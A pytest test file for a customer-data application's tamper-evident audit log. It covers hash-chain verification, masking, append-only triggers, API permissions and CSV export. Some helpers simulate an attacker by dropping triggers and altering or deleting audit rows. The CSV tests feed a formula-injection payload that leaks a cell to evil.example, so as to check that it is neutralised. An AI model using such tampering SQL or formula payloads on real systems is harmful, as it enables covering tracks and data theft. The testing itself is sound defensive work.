"""The tamper-evident audit log: entries per event, masking, append-only triggers, verify, API and UI."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, text
from sqlalchemy.engine import Connection, Engine
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session
from tests.factories import make_customer
from typer.testing import CliRunner

from custinfo.audit import anchor, chain
from custinfo.audit.models import AuditEntry
from custinfo.auth.models import User
from custinfo.cli.main import app as cli
from custinfo.core.db import make_session_factory
from custinfo.core.spreadsheet import safe_cell
from custinfo.core.uow import Actor, record, unit_of_work
from custinfo.customers.identifiers import make_id_number
from custinfo.protection.events import SensitiveFieldRead

ID_NUMBER = make_id_number("320102", date(1991, 7, 21), 33)


def _entries(session: Session) -> list[AuditEntry]:
    return list(session.scalars(select(AuditEntry).order_by(AuditEntry.seq)))


def _fill(session: Session, world: dict[str, User], n: int = 4) -> None:
    session.info["actor"] = Actor("sales_east1", role="sales", address="10.0.0.7")
    for i in range(n):
        make_customer(session, world["sales_east1"], kind="individual", name=f"客户{i}")
    record(session, SensitiveFieldRead(customer_id=1, fields=("id_number",), level="L3", purpose="reveal"))
    session.commit()


def test_every_write_and_event_is_chained_with_masked_values(
    session: Session, world: dict[str, User]
) -> None:
    session.info["actor"] = Actor("sales_east1", role="sales", address="10.0.0.7")
    customer = make_customer(
        session,
        world["sales_east1"],
        kind="individual",
        id_number=ID_NUMBER,
        name="周八",
        birth_date=date(1991, 7, 21),
    )
    record(
        session,
        SensitiveFieldRead(customer_id=customer.id, fields=("id_number",), level="L3", purpose="reveal"),
    )
    session.commit()
    entries = _entries(session)
    create = next(e for e in entries if e.action == "customer.create" and e.customer_id == customer.id)
    assert create.actor == "sales_east1" and create.role == "sales" and create.address == "10.0.0.7"
    assert create.details["changes"]["id_number"] == [None, ID_NUMBER[:6] + "********" + ID_NUMBER[-4:]]
    assert create.details["changes"]["birth_date"][1] == "1991-**-**"
    read = next(e for e in entries if e.action == "sensitive_read")
    assert read.customer_id == customer.id and read.details["fields"] == ["id_number"]
    for before, after in itertools.pairwise(entries):
        assert after.seq == before.seq + 1 and after.prev_hash == before.hash
    assert chain.verify(session.connection()).ok


def test_change_history_masks_l3_values_too(session: Session, world: dict[str, User]) -> None:
    customer = make_customer(session, world["sales_east1"], kind="individual", id_number=ID_NUMBER)
    session.commit()
    rows = session.execute(
        text("SELECT changes FROM change_records WHERE customer_id = :id"), {"id": customer.id}
    )
    assert ID_NUMBER not in str(rows.all())


@pytest.mark.parametrize("statement", ["UPDATE audit_log SET actor = 'x'", "DELETE FROM audit_log"])
def test_audit_rows_cannot_be_updated_or_deleted(
    session: Session, world: dict[str, User], statement: str
) -> None:
    _fill(session, world, 1)
    with pytest.raises(DBAPIError, match="append-only"), session.begin_nested():
        session.execute(text(statement))


def _drop_triggers(connection: Connection) -> None:
    """What an attacker with file or owner access could do: remove the append-only triggers."""
    if connection.dialect.name == "postgresql":
        connection.execute(text("DROP TRIGGER audit_log_append_only ON audit_log"))
    else:
        connection.execute(text("DROP TRIGGER audit_log_no_update"))
        connection.execute(text("DROP TRIGGER audit_log_no_delete"))


TAMPERING = {
    "edit": ("UPDATE audit_log SET details = '{\"changes\": {}}' WHERE seq = :third", "was altered"),
    "delete": ("DELETE FROM audit_log WHERE seq = :third", "missing or out of order"),
    "reorder": (
        "UPDATE audit_log SET seq = CASE WHEN seq = :third THEN -1 ELSE seq END WHERE seq IN (:third);"
        "UPDATE audit_log SET seq = :third WHERE seq = :third + 1;"
        "UPDATE audit_log SET seq = :third + 1 WHERE seq = -1",
        "",
    ),
    "truncate_tail": ("DELETE FROM audit_log WHERE seq > :third", "were deleted"),
}


@pytest.mark.parametrize("kind", list(TAMPERING))
def test_verify_names_the_first_tampered_entry(session: Session, world: dict[str, User], kind: str) -> None:
    _fill(session, world)
    assert chain.verify(session.connection()).ok
    first = _entries(session)[0].seq
    third = first + 2
    connection = session.connection()
    _drop_triggers(connection)
    statements, reason = TAMPERING[kind]
    for sql in statements.split(";"):
        connection.execute(text(sql), {"third": third})
    result = chain.verify(connection)
    assert not result.ok
    assert result.bad_seq == (third + 1 if kind == "truncate_tail" else third)
    assert reason in (result.reason or "")
    assert f"entry {result.bad_seq}" in (result.reason or "")


def test_postgres_application_role_may_not_update_audit_rows(
    session: Session, world: dict[str, User]
) -> None:
    connection = session.connection()
    if connection.dialect.name != "postgresql":
        pytest.skip("roles and grants are PostgreSQL's")
    _fill(session, world, 1)
    _drop_triggers(connection)  # so that the refusal below comes from the missing privilege alone
    connection.execute(text("CREATE ROLE custinfo_app_test NOLOGIN"))
    connection.execute(text("GRANT SELECT, INSERT ON audit_log TO custinfo_app_test"))
    connection.execute(text("SET LOCAL ROLE custinfo_app_test"))
    with pytest.raises(DBAPIError, match="permission denied"), session.begin_nested():
        session.execute(text("UPDATE audit_log SET actor = 'x'"))
    connection.execute(text("RESET ROLE"))


def test_cli_verify_exit_codes(own_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CUSTINFO_DATABASE_URL", own_engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("CUSTINFO_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("CUSTINFO_AUDIT_ANCHOR_FILE")
    monkeypatch.setattr(anchor, "_path", tmp_path / "audit-anchor.jsonl")
    with unit_of_work(make_session_factory(own_engine), Actor("admin", role="admin")) as s:
        for i in range(3):
            record(s, SensitiveFieldRead(customer_id=i + 1, fields=("address",), level="L3", purpose="view"))
    runner = CliRunner()
    intact = runner.invoke(cli, ["audit", "verify"])
    assert intact.exit_code == 0, intact.output
    assert "3 entries verified" in intact.output
    with own_engine.begin() as conn:
        _drop_triggers(conn)
        conn.execute(text("UPDATE audit_log SET actor = 'mallory' WHERE seq = 2"))
    tampered = runner.invoke(cli, ["audit", "verify"])
    assert tampered.exit_code == 1
    assert "entry 2 was altered (MAC mismatch)" in tampered.output


def test_audit_api_filters_and_permissions(client: TestClient, login, session: Session, world) -> None:  # type: ignore[no-untyped-def]
    _fill(session, world, 2)
    client.post("/api/v1/auth/token", data={"username": "sales_east1", "password": "wrong-password-1"})
    headers = login("auditor")
    failed = client.get("/api/v1/audit", params={"action": "login.failed"}, headers=headers).json()
    assert failed["total"] == 1 and failed["items"][0]["actor"] == "sales_east1"
    writes = client.get(
        "/api/v1/audit", params={"action": "customer", "actor": "sales_east1"}, headers=headers
    )
    assert writes.json()["total"] == 2
    assert all(item["action"] == "customer.create" for item in writes.json()["items"])
    bad = client.get("/api/v1/audit", params={"since": "2026-01-01T00:00:00"}, headers=headers)
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "since"
    assert client.get("/api/v1/audit", headers=login("sales_east1")).status_code == 403
    assert client.get("/api/v1/audit").status_code == 401


def test_audit_csv_export_is_itself_audited(client: TestClient, login, session: Session, world) -> None:  # type: ignore[no-untyped-def]
    _fill(session, world, 1)
    headers = login("admin")
    response = client.get("/api/v1/audit/export.csv", params={"action": "customer"}, headers=headers)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "customer.create" in response.text
    exports = client.get("/api/v1/audit", params={"action": "export"}, headers=headers).json()
    assert exports["total"] == 1 and exports["items"][0]["details"]["what"] == "audit_log"


def test_auditor_page_lists_and_filters(client: TestClient, session: Session, world: dict[str, User]) -> None:
    from tests.web.test_pages import sign_in

    _fill(session, world, 2)
    assert sign_in(client, "auditor").status_code == 303
    page = client.get("/audit", params={"action": "customer.create"})
    assert page.status_code == 200
    assert page.text.count("<code>customer.create</code>") == 2
    assert 'href="/audit"' in page.text  # the navigation shows the audit log to auditors
    csv = client.get("/audit/export.csv", params={"actor": "sales_east1"})
    assert csv.status_code == 200 and "sales_east1" in csv.text
    client.cookies.clear()
    assert sign_in(client, "sales_east1").status_code == 303
    assert client.get("/audit").status_code == 403


NASTY_DETAILS = {
    "nul": "a\x00b",
    "surrogate": "x\ud800y",
    "lines": "line one\nline two\ttabbed\r",
    "long": "长" * 5000,
    "nan": float("nan"),
    "inf": float("-inf"),
    "huge": 2**70,
    "deep": {"a": {"b": {"c": {"d": {"e": {"f": {"g": "h"}}}}}}},
    "many": list(range(1000)),
    "tuple": (1, "2"),
    "when": date(2026, 1, 2),
    7: "a key that is not text",
}


def test_audit_values_are_stored_exactly_as_sealed(session: Session) -> None:
    head = chain.append(
        session,
        actor="\t" * 60 + "mallory" + " " * 70,
        role="r" * 100,
        action="login.failed",
        target_type="user",
        target_id="id\x00" + " " * 200,  # PostgreSQL would silently cut trailing spaces of a too long value
        customer_id=2**70,
        details=NASTY_DETAILS,
        address="::ffff:" + "9" * 100,
    )
    session.flush()
    session.expire_all()
    entry = session.get(AuditEntry, head.seq)
    assert entry is not None
    assert len(entry.actor) == 64 and entry.actor.endswith("…") and "\t" not in entry.actor
    assert len(entry.role or "") == 20 and len(entry.target_id or "") == 64 and len(entry.address or "") == 64
    assert "\x00" not in (entry.target_id or "") and entry.customer_id is None
    details = entry.details
    assert details["nul"] == "a\ufffdb" and details["surrogate"] == "x\ufffdy"
    assert details["lines"] == NASTY_DETAILS["lines"]  # line breaks in details are kept
    assert len(details["long"]) == chain.TEXT_IN_DETAILS and details["nan"] == "nan"
    assert details["huge"] == str(2**70) and len(details["many"]) == chain.ITEMS_IN_DETAILS
    assert details["tuple"] == [1, "2"] and details["when"] == "2026-01-02" and details["7"]
    assert chain.verify(session.connection()).ok
    fields = {name: getattr(entry, name) for name in chain.HASHED}
    assert chain.entry_mac(fields, entry.prev_hash) == entry.hash == head.mac


def test_oversized_details_are_replaced_by_a_note(session: Session) -> None:
    head = chain.append(
        session, actor="x", role=None, action="export", details={f"k{i}": "v" * 900 for i in range(150)}
    )
    entry = session.get(AuditEntry, head.seq)
    assert entry is not None and entry.details["omitted"].startswith("details longer than")
    assert chain.verify(session.connection()).ok


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_every_formula_prefix(prefix: str) -> None:
    assert safe_cell(f'{prefix}HYPERLINK("http://evil")') == f'\'{prefix}HYPERLINK("http://evil")'


def test_safe_cell_leaves_other_values_alone() -> None:
    assert [safe_cell(v) for v in ("张三", "a=b", "", 42, None, -1)] == ["张三", "a=b", "", 42, None, -1]


def test_audit_csv_cells_never_start_a_formula(client: TestClient, login, world) -> None:  # type: ignore[no-untyped-def]
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert _token_attempt(client, payload).status_code == 401
    assert _token_attempt(client, "@SUM(1+1)").status_code == 401
    response = client.get("/api/v1/audit/export.csv", params={"action": "login"}, headers=login("admin"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + payload in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def _token_attempt(client: TestClient, username: str):  # type: ignore[no-untyped-def]
    return client.post("/api/v1/auth/token", data={"username": username, "password": "wrong-password-1"})
